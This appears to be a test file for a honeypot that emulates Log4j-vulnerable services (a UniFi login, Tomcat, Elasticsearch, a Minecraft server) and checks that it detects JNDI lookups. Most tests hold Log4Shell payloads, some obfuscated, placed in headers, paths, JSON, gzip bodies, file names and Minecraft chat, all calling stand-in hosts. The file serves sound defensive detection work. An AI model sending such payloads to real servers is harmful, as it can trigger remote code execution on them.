import { gzipSync } from 'node:zlib'
import { afterEach, describe, expect, it } from 'vitest'
import log4shell from '../../../src/emulators/log4shell/index.ts'
import { PacketReader, packet, string, varInt } from '../../../src/emulators/log4shell/minecraft-codec.ts'
import type { defineLure } from '../../../src/sensor/lure.ts'
import { connect, type Playing, play } from '../../harness.ts'
import { ask } from '../../http/ask.ts'
import { MemoryHosts } from '../../http/memory-hosts.ts'
import { type Probe, probeRequest, probes } from '../../http/probes.ts'

const plain = { ...log4shell, ports: log4shell.ports.map((port) => ({ ...port, tls: false })) } as ReturnType<typeof defineLure>
const GAME = 4

let playing: Playing
afterEach(async () => playing.stop())

async function start(): Promise<Playing> {
  playing = await play(plain, { persona: 'plain', prompts: 'test/fixtures/prompts', hosts: new MemoryHosts() })
  return playing
}

/** Where a probe carries its lookups. */
function placesOf({ path, headers, body }: Probe): string[] {
  const carries = (text: string): boolean => /\$\{|%24%7b|\$%7b/i.test(text)
  return [
    ...(carries(path) ? ['target'] : []),
    ...(carries(body) ? ['body', 'form'] : []),
    ...Object.entries(headers).flatMap(([name, value]) => (carries(value) ? [`header ${name}`] : [])),
  ]
}

const lookups = (): unknown[] => playing.data('jndi.lookup').map(({ where, scheme, host }) => [where, scheme, host])

describe('the applications', () => {
  it('each look like one product, and have nothing of the others', async () => {
    const p = await start()
    expect((await ask(p, 'GET', '/')).body).toContain('Staff Portal')
    expect((await ask(p, 'GET', '/status', { port: 1 })).body).toContain('"server_version":"6.5.53"')
    expect((await ask(p, 'GET', '/', { port: 2 })).body).toContain('<title>Apache Tomcat/9.0.54</title>')
    expect((await ask(p, 'GET', '/', { port: 3 })).body).toContain('"number" : "5.6.16"')
    for (const port of [0, 1, 2, 3]) expect((await ask(p, 'GET', '/api/nothing-here', { port })).status).toBe(404)
    expect((await ask(p, 'GET', '/status')).status).toBe(404)
  })

  it.each([
    ['a header', '/', { headers: { 'X-Api-Version': '${jndi:ldap://127.0.0.1:1389/a}' } }, ['header X-Api-Version', 'ldap', '127.0.0.1']],
    [
      'the User-Agent',
      '/',
      { headers: { 'User-Agent': '${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}ap://x.example/a}' } },
      ['header User-Agent', 'ldap', 'x.example'],
    ],
    ['the path', '/%24%7Bjndi:dns://x.example%7D', {}, ['target', 'dns', 'x.example']],
    ['JSON with escapes', '/', { body: '{"a":"\\u0024{jndi:rmi://x.example:1099/o}"}' }, ['body', 'rmi', 'x.example']],
    [
      'a compressed body',
      '/',
      { headers: { 'Content-Encoding': 'gzip' }, body: gzipSync('{"a":"${jndi:ldaps://x.example/z}"}') },
      ['text', 'ldaps', 'x.example'],
    ],
    ['the end of a large body', '/', { body: `${'a'.repeat(200_000)}\${jndi:nis://x.example/z}` }, ['text', 'nis', 'x.example']],
    [
      'a file name',
      '/',
      {
        headers: { 'Content-Type': 'multipart/form-data; boundary=b' },
        body: '--b\r\nContent-Disposition: form-data; name="f"; filename="${jndi:ldap://x.example/f}"\r\n\r\nx\r\n--b--',
      },
      ['name', 'ldap', 'x.example'],
    ],
  ] as const)('let a lookup be found in %s', async (_, target, asking, found) => {
    const p = await start()
    await ask(p, 'body' in asking ? 'POST' : 'GET', target, asking)
    await p.seen('jndi.lookup')
    expect(lookups()).toEqual([found])
    expect(p.deadLetters).toEqual([])
  })

  it('find what every recorded probe for Log4j carries', async () => {
    const p = await start()
    const carried = probes().filter((probe) => probe.class === 'jndi')
    expect(carried.length).toBeGreaterThan(15)
    for (const probe of carried) {
      const before = p.data('jndi.lookup').length
      await p.exchange(probeRequest(probe), { quietMs: 2_000 })
      const found = p.data<{ where: string }>('jndi.lookup').slice(before)
      expect([probe.name, found.length > 0]).toEqual([probe.name, true])
      const places = placesOf(probe)
      for (const { where } of found)
        expect([probe.name, where, places.some((place) => where.startsWith(place))]).toEqual([probe.name, where, true])
    }
    expect(p.data<{ host: string }>('jndi.lookup').every(({ host }) => String(host).endsWith('example.net'))).toBe(true)
  })

  it('write the login of UniFi down, with the lookup in its field', async () => {
    const p = await start()
    const body = '{"username":"a","password":"b","remember":"${jndi:ldap://x.example/o=tomcat}"}'
    expect((await ask(p, 'POST', '/api/login', { port: 1, headers: { 'Content-Type': 'application/json' }, body })).body).toContain(
      'InvalidPayload',
    )
    expect(p.data('login')).toMatchObject([{ username: 'a', password: 'b', accepted: false }])
    expect(p.data('log4shell.hit')).toMatchObject([{ trap: 'unifi-login', cves: ['CVE-2021-44228'] }])
  })
})

const handshake = (next: number, address = 'play.example', protocol = 757): Buffer =>
  packet(0, varInt(protocol), string(address), Buffer.from([0x63, 0xdd]), varInt(next))

function packetsOf(bytes: Buffer): { id: number; rest: Buffer }[] {
  const packets = []
  for (let left = bytes; left.length > 0; ) {
    const reader = new PacketReader(left)
    const length = reader.varInt()
    const body = reader.rest().subarray(0, length)
    const fields = new PacketReader(body)
    packets.push({ id: fields.varInt(), rest: fields.rest() })
    left = reader.rest().subarray(length)
  }
  return packets
}

describe('the Minecraft server', () => {
  it('answers the server list as a 1.18', async () => {
    const p = await start()
    const bytes = await p.exchange(Buffer.concat([handshake(1), packet(0), packet(1, Buffer.from('12345678'))]), { port: p.port(GAME) })
    const reader = new PacketReader(bytes)
    reader.varInt()
    expect(reader.varInt()).toBe(0)
    expect(JSON.parse(reader.string().toString())).toMatchObject({ version: { name: '1.18', protocol: 757 } })
    expect(reader.rest()).toEqual(packet(1, Buffer.from('12345678')))
    expect(p.data('log4shell.handshake')).toEqual([{ protocol: 757, address: 'play.example', port: 25565, next: 1 }])
  })

  it('lets a player in, and finds the lookup in the chat', async () => {
    const p = await start()
    const socket = await connect(p.port(GAME))
    socket.write(Buffer.concat([handshake(2), packet(0, string('Steve'))]))
    const [answer] = await new Promise<[Buffer]>((resolve) => socket.once('data', (chunk: Buffer) => resolve([chunk])))
    // LoginSuccess with the UUID of OfflinePlayer:Steve
    expect(answer.subarray(1, 18).toString('hex')).toBe(`02${'5627dd98e6be3c21b8a8e92344183641'}`)
    socket.write(packet(3, string('${${lower:J}ndi:ldap://x.example:1389/a}')))
    await p.seen('jndi.lookup')
    expect(lookups()).toEqual([['message', 'ldap', 'x.example']])
    expect(p.data('log4shell.chat')).toMatchObject([{ name: 'Steve' }])
    socket.destroy()
  })

  it.each([
    [47, [0x02, 0x01, 0x08, 0x02, 0x02]],
    [340, [0x02, 0x23, 0x2f, 0x0f, 0x0f]],
    [757, [0x02, 0x26, 0x38, 0x0f, 0x0f]],
    // The world of other releases is not spoken: who logs in may chat all the same.
    [754, [0x02]],
  ])('shows protocol %d its world, and says in the chat what was said', async (protocol, ids) => {
    const p = await start()
    const said = packet(protocol === 47 ? 1 : protocol === 757 ? 3 : 2, string('${jndi:ldap://x.example/a}'))
    const bytes = await p.exchange(Buffer.concat([handshake(2, 'play.example', protocol), packet(0, string('Steve')), said]), {
      port: p.port(GAME),
    })
    expect(packetsOf(bytes).map(({ id }) => id)).toEqual(ids)
    if (ids.length > 1)
      expect(packetsOf(bytes).at(-1)?.rest.toString('latin1')).toContain('"chat.type.text","with":[{"text":"Steve"},"${jndi:')
    expect(lookups()).toEqual([['message', 'ldap', 'x.example']])
  })

  it('finds a lookup in the address, in the name, and in HTTP that comes to its port', async () => {
    const p = await start()
    await p.exchange(Buffer.concat([handshake(1, '${jndi:dns://a.example}'), packet(0)]), { port: p.port(GAME) })
    await p.exchange(Buffer.concat([handshake(2), packet(0, string('${jndi:dns://b.example}'))]), { port: p.port(GAME) })
    await p.exchange('GET /${jndi:dns://c.example} HTTP/1.1\r\nHost: x\r\n\r\n', { port: p.port(GAME), quietMs: 1_500 })
    expect(lookups().map((row) => (row as string[])[2])).toEqual(['a.example', 'b.example', 'c.example'])
    expect(p.data('lure.fault')).toEqual([])
  })
})
